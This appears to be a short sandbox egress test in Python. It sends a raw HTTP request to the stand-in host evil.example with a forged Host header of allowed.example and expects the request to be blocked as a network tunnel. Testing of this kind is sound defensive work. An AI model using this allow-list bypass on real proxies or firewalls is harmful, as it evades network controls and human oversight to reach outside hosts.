# line: plain HTTP absolute-form
# control: 200
# inside: 403 network/tunnel
# seen: tcp 198.51.100.66:80; http attacker GET / allowed.example
# journal: network/tunnel
from attempt import send, verdict

result = verdict(send("GET http://evil.example/ HTTP/1.1\r\nHost: allowed.example\r\nTICKET\r\n\r\n"))
